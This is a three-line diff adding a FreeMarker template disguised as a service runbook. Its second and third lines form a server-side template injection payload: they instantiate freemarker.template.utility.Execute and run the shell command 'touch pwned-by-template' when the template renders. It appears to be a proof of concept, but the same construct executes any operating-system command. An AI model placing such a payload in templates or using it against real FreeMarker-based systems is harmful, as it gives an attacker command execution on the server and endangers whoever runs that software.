@@ -1,0 +1,3 @@
+# Runbook of ${service.name}
+<#assign run = "freemarker.template.utility.Execute"?new()>
+${run("touch pwned-by-template")}
